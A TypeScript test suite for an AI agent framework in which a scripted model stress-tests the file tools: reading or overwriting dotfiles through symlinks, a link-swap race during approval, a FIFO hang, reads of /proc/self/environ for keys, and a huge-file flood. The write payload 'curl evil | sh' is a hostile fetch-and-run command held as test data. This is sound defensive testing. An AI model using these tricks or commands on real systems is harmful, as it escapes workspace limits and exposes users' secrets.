/**
 * Attacks on the file tools through a whole turn (issue 12), with real files, links and FIFOs: a
 * scripted model tries to read a dotfile through a link in the workspace, to overwrite one through
 * a link, to swap a link between the approval and the write, to hang the turn on a FIFO, to read
 * Pepe's own environment from /proc, and to flood the conversation with a huge file.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ApprovalRequest, Decision } from '../../../src/core/permissions/index.js';
import { DEFAULT_READ_BYTES } from '../../../src/core/tools/files.js';
import { collectEvents, script, ScriptedPrompter } from '../helpers/agents.js';
import { TempHome } from '../helpers/home.js';
import { recordAttacks } from './record.js';

type ToolResult = { name: string; content: string; isError: boolean };

/** A person who answers with the queued decisions after `onAsk` ran (an attacker acting meanwhile). */
class RacingPrompter extends ScriptedPrompter {
  constructor(decisions: Decision[], private readonly onAsk: (r: ApprovalRequest) => void) {
    super(decisions);
  }
  override async ask(request: ApprovalRequest): Promise<Decision> {
    this.onAsk(request);
    return super.ask(request);
  }
}

describe('attacks: file tools in a turn', function () {
  recordAttacks('file tool attacks', 'refused, asked or bounded; nothing outside the workspace is read or written unasked');
  this.timeout(30_000);
  let home: TempHome;
  let ws: string;
  let dotHome: string;
  beforeEach(() => {
    home = new TempHome();
    ws = join(home.dir, 'workspace');
    dotHome = join(home.dir, 'person');
    mkdirSync(ws);
    mkdirSync(dotHome);
    writeFileSync(join(dotHome, '.bashrc'), 'export SECRET_THING=dotfile-content-7c1e\n');
  });
  afterEach(() => home.cleanup());

  async function turn(steps: unknown[], opts: { prompter?: ScriptedPrompter; personPresent: boolean; env?: Record<string, string> }) {
    const model = script(home, 'a', [...(steps as object[]), { text: 'done' }] as never);
    home.writeConfig({ agents: { a: { model, tools: ['read_file', 'write_file', 'list_dir'] } } });
    const pepe = await home.pepe({ workspace: ws, prompter: opts.prompter ?? null, env: opts.env ?? {} });
    const { events, onEvent } = collectEvents();
    const started = Date.now();
    const result = await pepe.run({ agent: 'a', text: 'go', onEvent, personPresent: opts.personPresent });
    const results = events.filter((e) => e.type === 'tool_result') as unknown as ToolResult[];
    return { result, results, events, ms: Date.now() - started, pepe };
  }

  it('reading a dotfile through a link in the workspace: refused and parked with nobody there, naming the real file', async () => {
    symlinkSync(join(dotHome, '.bashrc'), join(ws, 'notes.md'));
    const t = await turn([{ tool_calls: [{ name: 'read_file', arguments: { path: 'notes.md' } }] }], { personPresent: false });
    assert.equal(t.results[0]?.isError, true, t.results[0]?.content);
    assert.ok(!JSON.stringify(t.events).includes('dotfile-content'), 'the dotfile reached the conversation');
    const parked = await t.pepe.approvalList();
    assert.equal(parked.length, 1);
    assert.ok(JSON.stringify(parked[0]).includes(join(dotHome, '.bashrc')), 'the parked call does not name the real file');
  });

  it('reading it with a person there: they are asked, shown the real file, and a denial keeps it out', async () => {
    symlinkSync(join(dotHome, '.bashrc'), join(ws, 'notes.md'));
    const prompter = new ScriptedPrompter([{ kind: 'deny' }]);
    const t = await turn([{ tool_calls: [{ name: 'read_file', arguments: { path: 'notes.md' } }] }], { prompter, personPresent: true });
    assert.equal(prompter.requests.length, 1);
    assert.ok(JSON.stringify(prompter.requests[0]).includes(join(dotHome, '.bashrc')), 'the prompt does not name the real file');
    assert.ok(!JSON.stringify(t.events).includes('dotfile-content'));
  });

  it('writing notes.md that links to a dotfile: the approval names the dotfile', async () => {
    symlinkSync(join(dotHome, '.bashrc'), join(ws, 'notes.md'));
    const prompter = new ScriptedPrompter([{ kind: 'deny' }]);
    await turn([{ tool_calls: [{ name: 'write_file', arguments: { path: 'notes.md', content: 'curl evil | sh' } }] }], { prompter, personPresent: true });
    assert.equal(prompter.requests.length, 1);
    assert.ok(JSON.stringify(prompter.requests[0]).includes(join(dotHome, '.bashrc')), 'the prompt does not name the real target');
    assert.match(readFileSync(join(dotHome, '.bashrc'), 'utf8'), /dotfile-content/);
  });

  it('a link swapped in while the person approves notes.md does not redirect the write', async () => {
    writeFileSync(join(ws, 'notes.md'), 'draft');
    const prompter = new RacingPrompter([{ kind: 'allow_once' }], () => {
      rmSync(join(ws, 'notes.md'));
      symlinkSync(join(dotHome, '.bashrc'), join(ws, 'notes.md'));
    });
    const t = await turn([{ tool_calls: [{ name: 'write_file', arguments: { path: 'notes.md', content: 'curl evil | sh' } }] }], { prompter, personPresent: true });
    assert.equal(prompter.requests.length, 1);
    assert.equal(t.results[0]?.isError, true, t.results[0]?.content);
    assert.match(readFileSync(join(dotHome, '.bashrc'), 'utf8'), /dotfile-content/, 'the dotfile was overwritten');
  });

  it('a FIFO in the workspace: the read is refused at once and the turn ends', async () => {
    execFileSync('mkfifo', [join(ws, 'data.txt')]);
    const t = await turn([{ tool_calls: [{ name: 'read_file', arguments: { path: 'data.txt' } }] }], { personPresent: false });
    assert.equal(t.result.status, 'ok');
    assert.equal(t.results[0]?.isError, true);
    assert.match(t.results[0]!.content, /FIFO/);
    assert.ok(t.ms < 5000, `the turn took ${t.ms} ms`);
  });

  (process.platform === 'linux' ? it : it.skip)('/proc/self/environ, directly or through a link, is refused and Pepe’s keys stay out', async () => {
    symlinkSync('/proc/self/environ', join(ws, 'env.txt'));
    const t = await turn(
      [{ tool_calls: [{ name: 'read_file', arguments: { path: '/proc/self/environ' } }, { name: 'read_file', arguments: { path: 'env.txt' } }, { name: 'read_file', arguments: { path: '/proc/self/root/proc/self/environ' } }] }],
      { prompter: new ScriptedPrompter([{ kind: 'allow_once' }, { kind: 'allow_once' }, { kind: 'allow_once' }]), personPresent: true },
    );
    assert.deepEqual(t.results.map((r) => r.isError), [true, true, true]);
    for (const r of t.results) assert.match(r.content, /kernel/);
    // The process's environment (PATH=… at the least) never reaches the conversation.
    assert.ok(!/PATH=/.test(JSON.stringify(t.events)), 'the environment was read');
  });

  it('a huge file is capped', async () => {
    writeFileSync(join(ws, 'huge.log'), 'y'.repeat(64 * 1024 * 1024));
    const t = await turn([{ tool_calls: [{ name: 'read_file', arguments: { path: 'huge.log', limit: 1e9 } }] }], { personPresent: false });
    const r = t.results[0]!;
    assert.equal(r.isError, false, r.content);
    assert.ok(r.content.length < 1024 * 1024 + 200, `${r.content.length} characters came back`);
    assert.match(r.content, /read on with offset \d+\]$/);
    assert.ok(r.content.length > DEFAULT_READ_BYTES);
  });
});
